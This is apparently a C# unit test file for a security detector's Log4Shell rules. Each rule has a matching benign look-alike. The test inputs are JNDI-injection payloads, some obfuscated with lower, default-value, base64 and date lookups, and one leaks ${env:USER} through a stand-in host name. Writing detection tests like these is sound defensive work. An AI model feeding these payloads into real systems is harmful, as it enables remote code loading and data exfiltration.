using InfiniteSecurity.Detection;
using static InfiniteSecurity.Detection.UnitTests.Rules.RuleAssertions;

namespace InfiniteSecurity.Detection.UnitTests.Rules;

/// <summary>One positive and one look-alike per Log4Shell rule, named by rule id.</summary>
[TestFixture]
public sealed class Log4ShellRuleTests
{
    private const string F = ThreatCategory.Log4Shell;

    [TestCase("${jndi:rmi://e.test/a}", TestName = "log4shell.jndi_lookup positive: rmi")]
    [TestCase("$%7Bjndi:iiop://e.test/b%7D", TestName = "log4shell.jndi_lookup positive: percent-encoded braces")]
    public void Jndi_lookup(string input) => AssertFires(input, "log4shell.jndi_lookup", F);

    [TestCase("JNDI: the Java naming interface", TestName = "log4shell.jndi_lookup look-alike: prose")]
    public void Jndi_lookup_look_alike(string input) => AssertBenign(input, "log4shell.jndi_lookup");

    [TestCase("${${lower:J}ndi:ldaps://e.test/c}", TestName = "log4shell.obfuscated_jndi positive: lower lookup")]
    [TestCase("${${::-j}${::-n}di:nis://e.test/d}", TestName = "log4shell.obfuscated_jndi positive: default values")]
    [TestCase("${jn${base64:ZGk=}:corba://e.test/e}", TestName = "log4shell.obfuscated_jndi positive: base64 lookup")]
    [TestCase("${${date:'j'}ndi:dns://e.test/f}", TestName = "log4shell.obfuscated_jndi positive: date lookup")]
    public void Obfuscated_jndi(string input) => AssertFires(input, "log4shell.obfuscated_jndi", F);

    [TestCase("${lower:HELLO} ${upper:x}", TestName = "log4shell.obfuscated_jndi look-alike: harmless lookups")]
    public void Obfuscated_jndi_look_alike(string input) => AssertBenign(input, "log4shell.obfuscated_jndi");

    [TestCase("http://${env:USER}.e.test/", TestName = "log4shell.lookup_exfiltration positive: env in a host name")]
    public void Lookup_exfiltration(string input) => AssertFires(input, "log4shell.lookup_exfiltration", F);

    [TestCase("Config lives in ${HOME}/.app", TestName = "log4shell.lookup_exfiltration look-alike: shell variable")]
    public void Lookup_exfiltration_look_alike(string input) => AssertBenign(input, "log4shell.lookup_exfiltration");

    [TestCase("${sys:user.name}", TestName = "log4shell.information_lookup positive: system property")]
    public void Information_lookup(string input) => AssertFires(input, "log4shell.information_lookup", F);

    [TestCase("${system} is not a lookup", TestName = "log4shell.information_lookup look-alike: placeholder")]
    public void Information_lookup_look_alike(string input) => AssertBenign(input, "log4shell.information_lookup");

    [TestCase("${a${b${c}}}", TestName = "log4shell.nested_lookup positive: three levels")]
    public void Nested_lookup(string input) => AssertFires(input, "log4shell.nested_lookup", F);

    [TestCase("${a}${b}${c}", TestName = "log4shell.nested_lookup look-alike: flat placeholders")]
    public void Nested_lookup_look_alike(string input) => AssertBenign(input, "log4shell.nested_lookup");
}
